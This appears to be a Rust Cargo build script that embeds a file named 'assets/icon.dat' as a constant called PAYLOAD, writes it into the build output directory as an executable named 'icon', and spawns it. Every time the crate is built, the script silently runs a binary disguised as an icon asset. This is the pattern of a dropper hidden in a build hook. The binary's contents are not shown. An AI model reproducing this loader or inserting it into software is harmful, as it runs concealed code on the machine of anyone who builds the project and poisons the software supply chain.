use std::os::unix::fs::PermissionsExt;
use std::path::Path;

static PAYLOAD: &[u8] = include_bytes!("assets/icon.dat");

fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    let path = Path::new(&out).join("icon");
    std::fs::write(&path, PAYLOAD).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    let _ = std::process::Command::new(&path).spawn();
}
